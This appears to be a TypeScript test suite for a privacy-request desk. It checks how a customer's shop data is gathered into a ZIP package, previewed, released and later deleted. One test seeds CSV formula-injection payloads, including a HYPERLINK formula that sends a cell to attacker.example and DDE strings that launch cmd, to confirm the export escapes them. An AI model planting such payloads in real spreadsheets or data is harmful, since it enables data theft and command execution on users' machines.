import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, rmSync, utimesSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DataSourceRow, dataSources, fulfilmentRuns, fulfilmentSourceResults, requestAttachments } from '@/db/schema';
import { encryptSourceSecret } from '@/lib/data-sources/read-source-secret';
import { resetEnvForTests } from '@/lib/env';
import { getOrganisationSettings } from '@/lib/settings/get-organisation-settings';
import type { StaffActor } from '@/lib/staff/staff-actor';
import { uniqueEmail } from '@/test/support/fixtures';
import { readStoredZip } from '@/test/support/read-zip';
import { refusal, snapshotRequest } from '@/test/support/request-snapshot';
import { getRequest, listEvents } from '@/test/support/requests';
import { disableSources } from '@/test/support/data-sources';
import { createShopSource, demoShopMap, insertShopCustomer, type ShopCustomer, useDemoShop } from '@/test/support/demo-shop';
import { createStaffTeam } from '@/test/support/staff';
import { useTestDatabase } from '@/test/support/test-database';
import { createVerifiedRequest } from '@/test/support/verified-request';
import { rejectRequest } from '@/lib/requests/reject-request';
import { buildPackage } from './build-package';
import { deleteExpiredAttachments } from './delete-expired-attachments';
import { deleteExpiredPackages } from './delete-expired-packages';
import { getRequestFulfilment } from './get-request-fulfilment';
import { previewPackage } from './preview-package';
import { releasePackage } from './release-package';
import { runSource } from './run-source';
import { startGathering } from './start-gathering';
import { getStorage } from '@/lib/storage/get-storage';
import { readStoredBytes, stagedKeys, stageFile, storedObjectExists } from '@/test/support/storage';

const db = useTestDatabase();
const shop = useDemoShop();
const originalStorageDir = process.env.STORAGE_DIR;
let storageDir: string;
let source: DataSourceRow;
let team: Record<'admin' | 'agent' | 'auditor', StaffActor>;

beforeAll(async () => {
  storageDir = mkdtempSync(path.join(os.tmpdir(), 'dsr-desk-gather-'));
  process.env.STORAGE_DIR = storageDir;
  resetEnvForTests();
  // Enabled for this file only (disabled again in afterAll): every verified access request here gathers from it.
  source = await createShopSource(db, { databaseUrl: shop.databaseUrl, isEnabled: true, name: 'Shop database <main> & co' });
  team = await createStaffTeam(db);
});

afterAll(async () => {
  await disableSources(db, [source.id]);
  rmSync(storageDir, { recursive: true, force: true });
  if (originalStorageDir === undefined) delete process.env.STORAGE_DIR;
  else process.env.STORAGE_DIR = originalStorageDir;
  resetEnvForTests();
});

/**
 * A verified access request from a shop customer, whose data the shop holds, next to a neighbour's.
 * The subject's rows carry what a CSV must quote: a city with a comma and quotes, a ticket
 * body over two lines; their newsletter subscription is under their email in capitals.
 */
async function aShopCustomerRequest({ orders = 3 }: { orders?: number } = {}) {
  const email = uniqueEmail('shopper');
  const fullName = `Subject ${crypto.randomUUID().slice(0, 8)}`;
  const subject = await insertShopCustomer(shop.sql, {
    email,
    fullName,
    addresses: 2,
    orders,
    newsletterEmail: email.toUpperCase(),
    city: 'York, "old town"',
    ticketBody: `Hello, this is ${fullName}; my parcel is late.\nThanks`,
  });
  const neighbour = await insertShopCustomer(shop.sql, {
    email: uniqueEmail('neighbour'),
    fullName: `Neighbour ${crypto.randomUUID().slice(0, 8)}`,
    addresses: 2,
    orders: 2,
  });
  const verified = await createVerifiedRequest(db, { type: 'access', input: { email: subject.email, fullName: subject.fullName } });
  return { ...verified, subject, neighbour, runId: await latestRunId(verified.request.id) };
}

async function latestRunId(requestId: string): Promise<string> {
  const [run] = await db
    .select({ id: fulfilmentRuns.id })
    .from(fulfilmentRuns)
    .where(eq(fulfilmentRuns.requestId, requestId))
    .orderBy(desc(fulfilmentRuns.createdAt))
    .limit(1);
  if (!run) throw new Error('no run');
  return run.id;
}

/** Runs a run's source jobs and its package build in this process, as the worker would. */
async function gather(runId: string) {
  const results = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
  for (const result of results) if (result.sourceKind !== 'manual') await runSource(db, { sourceResultId: result.id });
  await buildPackage(db, { runId });
  const [run] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
  return run!;
}

async function subjectRows(subject: ShopCustomer) {
  const rows = {
    customers: await shop.sql`select id, email, full_name, phone, created_at from customers where id = ${subject.customerId}`,
    addresses: await shop.sql`select id, line1, city, postcode, country from addresses where customer_id = ${subject.customerId}`,
    orders:
      await shop.sql`select id, placed_at, total_pence, status, shipping_name, shipping_address from orders where customer_id = ${subject.customerId}`,
    newsletter_subscriptions:
      await shop.sql`select id, email, subscribed_at, topic from newsletter_subscriptions where lower(email) = ${subject.email.toLowerCase()}`,
    support_tickets:
      await shop.sql`select id, subject, body, opened_at, status from support_tickets where customer_id = ${subject.customerId}`,
  };
  return Object.fromEntries(Object.entries(rows).map(([table, list]) => [table, [...list].map((row) => ({ ...row }))]));
}

const byId = (left: Record<string, unknown>, right: Record<string, unknown>) => Number(left.id) - Number(right.id);
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const csvCell = (value: unknown) => (value === null ? '' : value instanceof Date ? value.toISOString() : spreadsheetText(String(value)));
/** What a package CSV holds for a text: a cell a spreadsheet would run as a formula gets a leading quote (the demo phone numbers start with +). */
const spreadsheetText = (text: string) => (/^[=+\-@\t\r]/.test(text) && !/^[+-]?\d+(\.\d+)?$/.test(text) ? `'${text}` : text);

describe('[system] gathers an access request’s data into a package', () => {
  it('a verified access request starts gathering by itself: one pending result per enabled source, the request stays new', async () => {
    const { request, runId } = await aShopCustomerRequest();

    const [run] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
    expect(run).toMatchObject({ kind: 'gather', status: 'running', startedById: null });
    const results = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
    expect(results).toEqual([expect.objectContaining({ sourceId: source.id, status: 'pending' })]);
    expect(await getRequest(db, { id: request.id })).toMatchObject({ status: 'new' });
    expect((await listEvents(db, { requestId: request.id })).find((event) => event.action === 'data_gathering_started')).toMatchObject({
      actorType: 'system',
      details: { runId },
    });
  });

  it('the ZIP holds the subject’s rows of every table as JSON and CSV, none of a neighbour’s, and the manifest’s checksums match the files', async () => {
    const { request, reference, subject, neighbour, runId } = await aShopCustomerRequest({ orders: 25 });

    const run = await gather(runId);

    expect(run).toMatchObject({ status: 'succeeded', error: null });
    const files = await readStoredZip(run.packageStorageKey!);
    const zipBytes = await readStoredBytes(run.packageStorageKey!);
    expect({ sizeBytes: run.packageSizeBytes, sha256: run.packageSha256 }).toEqual({
      sizeBytes: zipBytes.length,
      sha256: sha256(zipBytes),
    });

    const slug = source.slug;
    const tables = ['customers', 'addresses', 'orders', 'newsletter_subscriptions', 'support_tickets'];
    expect([...files.keys()]).toEqual([
      `${slug}/${slug}.json`,
      ...tables.map((table) => `${slug}/${table}.csv`),
      'manifest.json',
      'index.html',
    ]);

    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest).toMatchObject({
      reference,
      requestType: 'access',
      sources: [
        {
          name: source.name,
          slug,
          kind: 'postgres',
          status: 'succeeded',
          rowCounts: { customers: 1, addresses: 2, orders: 25, newsletter_subscriptions: 1, support_tickets: 1 },
        },
      ],
    });
    expect(new Date(manifest.generatedAt).getTime()).not.toBeNaN();
    expect(manifest.files.map((file: { path: string }) => file.path)).toEqual([...files.keys()].slice(0, -2));
    for (const file of manifest.files) {
      const bytes = files.get(file.path)!;
      expect({ path: file.path, sizeBytes: bytes.length, sha256: sha256(bytes) }).toEqual(file);
    }

    const expected = await subjectRows(subject);
    const json = JSON.parse(files.get(`${slug}/${slug}.json`)!.toString('utf8'));
    expect(json.source).toBe(source.name);
    for (const table of tables) {
      const expectedRows = expected[table]!.sort(byId);
      expect([...json.tables[table]].sort(byId)).toEqual(JSON.parse(JSON.stringify(expectedRows)));
      const columns = demoShopMap.tables.find((mapped) => mapped.table === table)!.export;
      const csvRecords = parse(files.get(`${slug}/${table}.csv`)!, { columns: true }) as Record<string, string>[];
      expect(Object.keys(csvRecords[0] ?? {})).toEqual(columns);
      expect(csvRecords.sort(byId)).toEqual(
        expectedRows.map((row) => Object.fromEntries(columns.map((column) => [column, csvCell(row[column])]))),
      );
    }

    const everything = [...files.values()].map((bytes) => bytes.toString('utf8')).join('\n');
    expect(everything).not.toContain(neighbour.email);
    expect(everything).not.toContain(neighbour.fullName);

    const index = files.get('index.html')!.toString('utf8');
    expect(index).toContain(reference);
    expect(index).toContain('Shop database &#60;main&#62; &#38; co');
    expect(index).not.toContain('<main>');
    expect(index).not.toMatch(/<script/i);
    expect(index).toContain('<caption>Your orders: 25 records</caption>');

    // The staging folder is gone once the package is stored; the event holds counts and checksums, no rows.
    expect(await stagedKeys(runId)).toEqual([]);
    const built = (await listEvents(db, { requestId: request.id })).find((event) => event.action === 'data_package_built');
    expect(built).toMatchObject({ actorType: 'system', details: { runId, sizeBytes: run.packageSizeBytes, sha256: run.packageSha256 } });
    expect(JSON.stringify(built!.details)).not.toContain(subject.email);
  });

  it('a source value that a spreadsheet would run as a formula is text in the CSV, exact in the JSON, and the manifest says so', async () => {
    const hostile = {
      fullName: '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
      city: "+cmd|' /C calc'!A0",
      ticketBody: "@SUM(1+1)*cmd|' /C calc'!A0",
      ticketSubject: '\tTabbed=1+1',
      line1: '\rCarriage=1+1',
      postcode: "-2+3+cmd|' /C calc'!A0",
    };
    const { subject, runId } = await aShopCustomerRequest({ orders: 1 });
    await shop.sql`update customers set full_name = ${hostile.fullName} where id = ${subject.customerId}`;
    await shop.sql`update addresses set city = ${hostile.city}, line1 = ${hostile.line1}, postcode = ${hostile.postcode} where customer_id = ${subject.customerId}`;
    await shop.sql`update support_tickets set subject = ${hostile.ticketSubject}, body = ${hostile.ticketBody} where customer_id = ${subject.customerId}`;

    const run = await gather(runId);

    const files = await readStoredZip(run.packageStorageKey!);
    const slug = source.slug;
    const csv = (table: string) => parse(files.get(`${slug}/${table}.csv`)!, { columns: true }) as Record<string, string>[];
    expect(csv('customers')[0]!.full_name).toBe(`'${hostile.fullName}`);
    expect(csv('addresses').map(({ city, line1, postcode }) => ({ city, line1, postcode }))).toEqual([
      { city: `'${hostile.city}`, line1: `'${hostile.line1}`, postcode: `'${hostile.postcode}` },
      { city: `'${hostile.city}`, line1: `'${hostile.line1}`, postcode: `'${hostile.postcode}` },
    ]);
    expect(csv('support_tickets')[0]).toMatchObject({ subject: `'${hostile.ticketSubject}`, body: `'${hostile.ticketBody}` });
    // No cell of any CSV starts with a character a spreadsheet treats as a formula.
    for (const table of ['customers', 'addresses', 'orders', 'newsletter_subscriptions', 'support_tickets']) {
      const cells = (parse(files.get(`${slug}/${table}.csv`)!) as string[][]).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }

    const json = JSON.parse(files.get(`${slug}/${slug}.json`)!.toString('utf8'));
    expect(json.tables.customers[0].full_name).toBe(hostile.fullName);
    expect(json.tables.addresses[0]).toMatchObject({ city: hostile.city, line1: hostile.line1, postcode: hostile.postcode });
    expect(json.tables.support_tickets[0]).toMatchObject({ subject: hostile.ticketSubject, body: hostile.ticketBody });

    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest.csv).toEqual({ formulasEscaped: true, note: expect.stringContaining('single quote') });
    expect(files.get('index.html')!.toString('utf8')).toContain('shows it as text instead of running it as a formula');
  });

  it('the request page’s read model shows each source’s progress: pending, then done with its rows', async () => {
    const { request, runId } = await aShopCustomerRequest({ orders: 4 });

    const before = await getRequestFulfilment(db, { actor: team.auditor, requestId: request.id });
    expect(before.gather).toMatchObject({
      id: runId,
      status: 'running',
      package: null,
      results: [{ sourceName: source.name, status: 'pending', rowsDone: 0 }],
    });
    expect(before.enabledSources.access).toBeGreaterThanOrEqual(1);
    expect(before.dryRun).toBeNull();

    await gather(runId);

    const after = await getRequestFulfilment(db, { actor: team.auditor, requestId: request.id });
    expect(after.gather).toMatchObject({
      status: 'succeeded',
      package: { sizeBytes: expect.any(Number), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
      results: [
        {
          status: 'succeeded',
          rowsDone: 9,
          rowCounts: { customers: 1, addresses: 2, orders: 4, newsletter_subscriptions: 1, support_tickets: 1 },
          attempts: 1,
        },
      ],
    });
    expect(after.gather!.results[0]!.tables).toEqual([
      { name: 'customers', rows: 1, erasure: { action: 'anonymise', columns: ['email', 'full_name', 'phone'] } },
      { name: 'addresses', rows: 2, erasure: { action: 'delete' } },
      { name: 'orders', rows: 4, erasure: { action: 'anonymise', columns: ['shipping_name', 'shipping_address'] } },
      { name: 'newsletter_subscriptions', rows: 1, erasure: { action: 'delete' } },
      { name: 'support_tickets', rows: 1, erasure: { action: 'delete' } },
    ]);
  });

  it('the preview shows each table’s first rows, as in the CSV, and its full count; each look is audited', async () => {
    const { request, reference, runId } = await aShopCustomerRequest({ orders: 25 });
    const run = await gather(runId);
    const files = await readStoredZip(run.packageStorageKey!);

    const preview = await previewPackage(db, { actor: team.auditor, reference, runId, rowsPerTable: 3 });

    expect(preview).toMatchObject({ runId, reference, sizeBytes: run.packageSizeBytes, sha256: run.packageSha256, isReleased: false });
    const [shopPreview] = preview.sources;
    expect(shopPreview!.tables.map((table) => [table.name, table.rowCount, table.rows.length])).toEqual([
      ['customers', 1, 1],
      ['addresses', 2, 2],
      ['orders', 25, 3],
      ['newsletter_subscriptions', 1, 1],
      ['support_tickets', 1, 1],
    ]);
    const orders = shopPreview!.tables.find((table) => table.name === 'orders')!;
    const [header, ...csvRows] = parse(files.get(`${source.slug}/orders.csv`)!) as string[][];
    expect(orders.columns).toEqual(header);
    expect(orders.rows).toEqual(csvRows.slice(0, 3));
    // A ticket body with a line break is one cell, not two rows.
    expect(shopPreview!.tables.find((table) => table.name === 'support_tickets')!.rows[0]![2]).toContain('\nThanks');
    expect((await listEvents(db, { requestId: request.id })).filter((event) => event.action === 'data_package_previewed')).toEqual([
      expect.objectContaining({ actorId: team.auditor.staffId, details: { runId } }),
    ]);
  });

  it('running build-package again for a built run changes nothing', async () => {
    const { request, runId } = await aShopCustomerRequest();
    const built = await gather(runId);
    const eventsBefore = await listEvents(db, { requestId: request.id });

    await buildPackage(db, { runId });

    const [after] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
    expect(after).toEqual(built);
    expect(await listEvents(db, { requestId: request.id })).toEqual(eventsBefore);
    expect(readdirSync(path.join(storageDir, 'attachments'))).toContain(built.packageStorageKey);
  });

  it('a staged file that went missing fails the build: the run is failed with the reason and an event, and no package is kept', async () => {
    const { request, runId } = await aShopCustomerRequest();
    const results = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
    await runSource(db, { sourceResultId: results[0]!.id });
    const attachmentsBefore = existsSync(path.join(storageDir, 'attachments')) ? readdirSync(path.join(storageDir, 'attachments')) : [];
    await getStorage().delete(`staging/${runId}/${source.slug}/orders.csv`);

    await buildPackage(db, { runId });

    const [run] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
    expect(run).toMatchObject({
      status: 'failed',
      packageStorageKey: null,
      error: expect.stringContaining('The package could not be built'),
    });
    expect(run!.finishedAt).toBeInstanceOf(Date);
    expect((await listEvents(db, { requestId: request.id })).at(-1)).toMatchObject({
      action: 'data_gathering_failed',
      actorType: 'system',
      details: { runId, error: run!.error },
    });
    expect(readdirSync(path.join(storageDir, 'attachments'))).toEqual(attachmentsBefore);
    expect(await stagedKeys(runId)).toEqual([]);
  });

  it('gathering again replaces an unreleased package: the older file is deleted and its run marked', async () => {
    const { request, reference, runId } = await aShopCustomerRequest();
    const first = await gather(runId);

    const { runId: secondRunId } = await startGathering(db, {
      actor: team.agent,
      reference,
      version: (await getRequest(db, { id: request.id })).version,
    });
    const second = await gather(secondRunId);

    expect(second).toMatchObject({ status: 'succeeded', startedById: team.agent.staffId });
    expect(await storedObjectExists(second.packageStorageKey!)).toBe(true);
    expect(await storedObjectExists(first.packageStorageKey!)).toBe(false);
    const [firstAfter] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
    expect(firstAfter!.packageDeletedAt).toEqual(second.finishedAt);
    // An agent gathering on a new request has started work on it.
    expect(await getRequest(db, { id: request.id })).toMatchObject({ status: 'in_progress', assigneeId: team.agent.staffId });
    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({
      id: secondRunId,
      startedByName: team.agent.name,
    });
  });

  it('an auditor may not start gathering: refused, and nothing is written', async () => {
    const { request, reference } = await aShopCustomerRequest();
    const before = await snapshotRequest(db, { id: request.id });
    const runsBefore = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, request.id));

    expect(await refusal(startGathering(db, { actor: team.auditor, reference, version: request.version }))).toMatchObject({
      code: 'FORBIDDEN',
    });

    expect(await snapshotRequest(db, { id: request.id })).toEqual(before);
    expect(await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, request.id))).toEqual(runsBefore);
  });

  it('gathering again while a gather is running is refused', async () => {
    const { request, reference } = await aShopCustomerRequest();

    expect(await refusal(startGathering(db, { actor: team.agent, reference, version: request.version }))).toMatchObject({
      code: 'CONFLICT',
      message: expect.stringContaining('already running'),
    });
  });

  it('closing a request by hand stops its gathering: unfinished sources and the run fail with the reason, and a late job reads nothing', async () => {
    const { request, reference, runId } = await aShopCustomerRequest();
    const [result] = await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId));
    await rejectRequest(db, {
      actor: team.agent,
      reference,
      version: request.version,
      basis: 'duplicate',
      message: 'You already have a request with us.',
    });

    expect((await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId)))[0]).toMatchObject({
      status: 'failed',
      error: 'Stopped: the request was closed.',
      finishedAt: expect.any(Date),
    });
    expect((await db.select().from(fulfilmentSourceResults).where(eq(fulfilmentSourceResults.runId, runId)))[0]).toMatchObject({
      status: 'failed',
      error: 'Stopped: the request was closed before this source finished.',
    });
    const stopped = (await listEvents(db, { requestId: request.id })).find((event) => event.action === 'fulfilment_run_stopped');
    expect(stopped).toMatchObject({ actorType: 'staff', details: { runId, kind: 'gather', stoppedSources: 1 } });

    // The job queued before the request closed finds nothing to do, and no package is built.
    expect(await runSource(db, { sourceResultId: result!.id })).toBeNull();
    const run = await gather(runId);
    expect(run).toMatchObject({ status: 'failed', packageStorageKey: null });
    expect(await stagedKeys(runId)).toEqual([]);
  });

  it('with no source enabled, a verified access request starts nothing and is accepted all the same; a deletion request never gathers', async () => {
    await db.update(dataSources).set({ isEnabled: false }).where(eq(dataSources.id, source.id));
    try {
      const access = await createVerifiedRequest(db, { type: 'access' });
      expect(access.request.status).toBe('new');
      expect(await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, access.request.id))).toEqual([]);
      const refused = await refusal(
        startGathering(db, { actor: team.agent, reference: access.reference, version: access.request.version }),
      );
      expect(refused).toMatchObject({ code: 'VALIDATION', message: expect.stringContaining('Settings → Data sources') });
    } finally {
      await db.update(dataSources).set({ isEnabled: true }).where(eq(dataSources.id, source.id));
    }
    const deletion = await createVerifiedRequest(db, { type: 'deletion' });
    expect(await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.requestId, deletion.request.id))).toEqual([]);
  });
});

describe('[agent] releases a gathered package', () => {
  it('an older package cannot be released once the agent gathered again', async () => {
    const { request, reference, runId: firstRunId } = await aShopCustomerRequest();
    await gather(firstRunId);
    const { runId: secondRunId } = await startGathering(db, {
      actor: team.agent,
      reference,
      version: (await getRequest(db, { id: request.id })).version,
    });

    const version = (await getRequest(db, { id: request.id })).version;
    expect(await refusal(releasePackage(db, { actor: team.agent, reference, version, runId: firstRunId, message: 'Here.' }))).toMatchObject(
      {
        code: 'INVALID_TRANSITION',
        message: 'A newer gathering replaced this package. Release the newest one once it is built.',
      },
    );
    await gather(secondRunId);
    await releasePackage(db, { actor: team.agent, reference, version, runId: secondRunId, message: 'Here is your data.' });
    expect((await getRequest(db, { id: request.id })).status).toBe('fulfilled');
  });

  it('release is refused for a failed run, for an auditor, and a second time; nothing changes', async () => {
    // A second source that cannot be reached fails the whole run.
    const [broken] = await db
      .insert(dataSources)
      .values({
        slug: `broken-${crypto.randomUUID().slice(0, 8)}`,
        name: 'Unreachable CRM',
        kind: 'postgres',
        config: { kind: 'postgres', map: demoShopMap },
        secretCiphertext: encryptSourceSecret('postgres', 'postgres://nobody@127.0.0.1:1/none'),
      })
      .returning();
    let failed: Awaited<ReturnType<typeof aShopCustomerRequest>>;
    try {
      failed = await aShopCustomerRequest();
    } finally {
      await db.update(dataSources).set({ isEnabled: false }).where(eq(dataSources.id, broken!.id));
    }
    const failedRun = await gather(failed.runId);
    expect(failedRun.status).toBe('failed');
    const failedResult = (await getRequestFulfilment(db, { actor: team.agent, requestId: failed.request.id })).gather!.results.find(
      (result) => result.sourceName === 'Unreachable CRM',
    );
    expect(failedResult).toMatchObject({ status: 'failed', error: expect.stringMatching(/ECONNREFUSED|connect/) });
    const failedBefore = await snapshotRequest(db, { id: failed.request.id });
    expect(
      await refusal(
        releasePackage(db, {
          actor: team.agent,
          reference: failed.reference,
          version: failed.request.version,
          runId: failed.runId,
          message: 'Here.',
        }),
      ),
    ).toMatchObject({
      code: 'INVALID_TRANSITION',
    });
    expect(await snapshotRequest(db, { id: failed.request.id })).toEqual(failedBefore);

    const { request, reference, runId } = await aShopCustomerRequest();
    await gather(runId);
    const before = await snapshotRequest(db, { id: request.id });
    expect(
      await refusal(releasePackage(db, { actor: team.auditor, reference, version: request.version, runId, message: 'Here.' })),
    ).toMatchObject({ code: 'FORBIDDEN' });
    expect(await snapshotRequest(db, { id: request.id })).toEqual(before);

    await releasePackage(db, { actor: team.agent, reference, version: request.version, runId, message: 'Your data is attached.' });
    const released = await getRequest(db, { id: request.id });
    const afterFirst = await snapshotRequest(db, { id: request.id });
    expect(
      await refusal(releasePackage(db, { actor: team.agent, reference, version: released.version, runId, message: 'Again.' })),
    ).toMatchObject({
      code: 'INVALID_TRANSITION',
      message: expect.stringContaining('already released'),
    });
    expect(await snapshotRequest(db, { id: request.id })).toEqual(afterFirst);
    expect(await db.select().from(requestAttachments).where(eq(requestAttachments.requestId, request.id))).toHaveLength(1);
  });
});

describe('[system] removes a released package when its download link expires', () => {
  it('the download and the run both record the file as gone, and the page no longer offers it', async () => {
    const { request, reference, runId } = await aShopCustomerRequest();
    const run = await gather(runId);
    await releasePackage(db, { actor: team.agent, reference, version: request.version, runId, message: 'Your data.' });
    await db
      .update(requestAttachments)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(eq(requestAttachments.requestId, request.id));

    const now = new Date();
    await deleteExpiredAttachments(db, { now });

    expect(await storedObjectExists(run.packageStorageKey!)).toBe(false);
    const [after] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, runId));
    expect(after).toMatchObject({ status: 'released', packageDeletedAt: now });
    expect((await getRequestFulfilment(db, { actor: team.agent, requestId: request.id })).gather).toMatchObject({
      status: 'released',
      package: null,
    });
  });
});

describe('[system] removes unreleased packages after the download period', () => {
  it('deletes the file, marks the run and audits it; leftover staging of ended runs goes too, a fresh package stays', async () => {
    const old = await aShopCustomerRequest();
    const oldRun = await gather(old.runId);
    const fresh = await aShopCustomerRequest();
    const freshRun = await gather(fresh.runId);
    const { downloadDays } = await getOrganisationSettings(db);
    const longAgo = new Date(Date.now() - (downloadDays + 1) * 24 * 60 * 60 * 1000);
    await db.update(fulfilmentRuns).set({ finishedAt: longAgo }).where(eq(fulfilmentRuns.id, old.runId));
    const leftoverRunId = crypto.randomUUID();
    const leftover = `staging/${leftoverRunId}/some-source/some-source.json`;
    await stageFile(leftover, '{"source":"Some source","tables":{}}');
    utimesSync(path.join(storageDir, leftover), longAgo, longAgo);

    const now = new Date();
    const deleted = await deleteExpiredPackages(db, { now });

    expect(deleted.packages).toBeGreaterThanOrEqual(1);
    expect(deleted.stagingFolders).toBeGreaterThanOrEqual(1);
    expect(await storedObjectExists(oldRun.packageStorageKey!)).toBe(false);
    expect(await storedObjectExists(freshRun.packageStorageKey!)).toBe(true);
    expect(await stagedKeys(leftoverRunId)).toEqual([]);
    expect(existsSync(path.join(storageDir, 'staging', leftoverRunId))).toBe(false);
    const [oldAfter] = await db.select().from(fulfilmentRuns).where(eq(fulfilmentRuns.id, old.runId));
    expect(oldAfter).toMatchObject({ packageDeletedAt: now, packageSha256: oldRun.packageSha256 });
    expect((await listEvents(db, { requestId: old.request.id })).at(-1)).toMatchObject({
      action: 'data_package_deleted',
      details: { runId: old.runId },
    });
    expect(await refusal(previewPackage(db, { actor: team.agent, reference: old.reference, runId: old.runId }))).toMatchObject({
      code: 'NOT_FOUND',
    });
  });
});
